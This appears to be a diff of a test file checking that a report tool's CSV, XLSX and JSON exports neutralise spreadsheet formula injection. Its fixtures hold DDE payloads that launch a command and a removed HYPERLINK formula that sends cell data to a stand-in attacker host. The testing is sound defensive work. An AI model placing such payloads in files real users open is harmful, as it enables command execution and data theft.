@@ -6,6 +6,7 @@ from __future__ import annotations
 import contextlib
 import csv
 import io
+import json
 import sys
 import unicodedata
 from pathlib import Path
@@ -20,12 +21,14 @@ import reportlint.commands  # noqa: F401  (registers aggregate, extract… on th
 from reportlint.cli import app
 from reportlint.output.safe import _HIDDEN, csv_row, formula_like, shown, shown_name
 
-# What an attacker puts at the start of the unit name (the report's title), one per prefix.
+# What an attacker puts at the start of a report's title, one per prefix: the DDE payload
+# in the shape a unit name may take (the title locator keeps no digit, colon or comma in a
+# name), so the attack reaches the unit column, and the file name carries the prefix too.
 ATTACKS = {
-    "=": '=HYPERLINK("http://evil.example/?"&A1,"点击")',
-    "+": "+cmd|' /C calc'!A0",
-    "-": "-2+3+cmd|' /C calc'!A0",
-    "@": "@SUM(1+1)*cmd|' /C calc'!A0",
+    "=": "=cmd|' /C calc'",
+    "+": "+cmd|' /C calc'",
+    "-": "-cmd|' /C calc'",
+    "@": "@SUM(A+A)*cmd|' /C calc'",
 }
 FORMULA_PREFIXES = ("=", "+", "-", "@", "\t", "\r")
 
@@ -51,14 +54,27 @@ def hostile_folder(tmp_path_factory: pytest.TempPathFactory) -> Path:
 def exports(hostile_folder: Path, tmp_path_factory: pytest.TempPathFactory) -> dict[str, Path]:
     """Run from inside the folder, so the file names reach the exports as given: `=SUM(1,2) 61.txt`."""
     out = tmp_path_factory.mktemp("exports")
-    paths = {name: out / name for name in ("check.xlsx", "check.csv", "aggregate.xlsx", "aggregate.csv")}
+    paths = {name: out / name for name in ("check.xlsx", "check.csv", "check.json", "aggregate.xlsx", "aggregate.csv")}
     names = sorted(p.name for p in hostile_folder.iterdir())
     with contextlib.chdir(hostile_folder):
-        for name in ("check.xlsx", "check.csv"):
+        for name in ("check.xlsx", "check.csv", "check.json"):
             _cli("check", "-f", name.split(".")[1], "-o", str(paths[name]), "--", *names)
         for name in ("aggregate.xlsx", "aggregate.csv"):
             _cli("aggregate", "-o", str(paths[name]), "--", *names)
     return paths
+
+
+@pytest.fixture(scope="module")
+def units(exports: dict[str, Path]) -> dict[str, str]:
+    """File name -> unit as the locator found it (JSON keeps text exact)."""
+    files = json.loads(exports["check.json"].read_text(encoding="utf-8"))["files"]
+    return {f["path"]: f["unit"] for f in files}
+
+
+def test_the_attacks_reach_the_unit_names(units: dict[str, str]) -> None:
+    """Without this the tests below would only prove file names safe."""
+    assert sorted(units) == sorted(f"{p}SUM(1,2) {ord(p)}.txt" for p in ATTACKS)
+    assert [u for u in units.values() if u.startswith(FORMULA_PREFIXES)]
 
 
 def _cells(path: Path) -> list[Any]:
@@ -71,17 +87,22 @@ def test_xlsx_has_no_formula_cell_and_keeps_the_text(exports: dict[str, Path], n
     cells = _cells(exports[name])
     assert [c.coordinate for c in cells if c.data_type == "f"] == []
     hostile = [c for c in cells if isinstance(c.value, str) and c.value.startswith(tuple(ATTACKS))]
-    # every attack is there, as the text the unit wrote, marked as text for Excel
+    # every prefix is there, as the text the unit wrote, a string marked as text for Excel
     assert {c.value[0] for c in hostile} == set(ATTACKS)
     assert all(c.data_type == "s" and c.quotePrefix for c in hostile)
-    assert {v for c in hostile for v in ATTACKS.values() if c.value.startswith(v[:20])} == set(ATTACKS.values())
 
 
-def test_check_xlsx_numbers_stay_numbers(exports: dict[str, Path]) -> None:
+def test_check_xlsx_keeps_names_and_numbers(exports: dict[str, Path], units: dict[str, str]) -> None:
     summary = load_workbook(exports["check.xlsx"]).worksheets[0]
     rows = list(summary.iter_rows(min_row=2, values_only=True))
-    assert len(rows) == 4
-    assert all(row[2:6] == (2024, 0, 0, 1) for row in rows)  # year, errors, warnings, notes
+    assert {row[0]: row[1] for row in rows} == units
+    assert all(row[2:6] == (2024, 0, 0, 1) for row in rows)  # year, errors, warnings, notes: numbers
+
+
+def test_aggregate_xlsx_lists_the_hostile_units_as_text(exports: dict[str, Path], units: dict[str, str]) -> None:
+    book = load_workbook(exports["aggregate.xlsx"])
+    listed = [row for sheet in book.worksheets[-2:] for row in sheet.iter_rows(min_row=2, values_only=True)]
+    assert sorted(row[0] for row in listed) == sorted(units.values())
 
 
 def _csv_records(path: Path) -> list[list[str]]:
@@ -94,19 +115,12 @@ def test_csv_has_no_field_starting_a_formula(exports: dict[str, Path], name: str
     assert [f for f in fields if f.startswith(FORMULA_PREFIXES)] == []
 
 
-def test_check_csv_keeps_each_attack_behind_a_quote(exports: dict[str, Path]) -> None:
+def test_check_csv_keeps_each_attack_behind_a_quote(exports: dict[str, Path], units: dict[str, str]) -> None:
     records = _csv_records(exports["check.csv"])
     assert len(records) == 1 + 4  # header and one S104 per report
-    assert sorted(r[0] for r in records[1:]) == sorted(f"'{p}SUM(1,2) {ord(p)}.txt" for p in ATTACKS)
-    units = {r[1] for r in records[1:]}
-    assert {u[:2] for u in units} == {"'" + p for p in ATTACKS}
     assert {r[3] for r in records[1:]} == {"S104"}
-
-
-def test_aggregate_xlsx_lists_the_hostile_units_as_text(exports: dict[str, Path]) -> None:
-    book = load_workbook(exports["aggregate.xlsx"])
-    listed = [row for sheet in book.worksheets[-2:] for row in sheet.iter_rows(min_row=2, values_only=True)]
-    assert sorted(str(row[0])[0] for row in listed) == sorted(ATTACKS)
+    expected = {"'" + path: ("'" + unit if unit.startswith(FORMULA_PREFIXES) else unit) for path, unit in units.items()}
+    assert {r[0]: r[1] for r in records[1:]} == expected
 
 
 # ---- the language of CSV, XLSX and HTML (issue 12) -------------------------------------
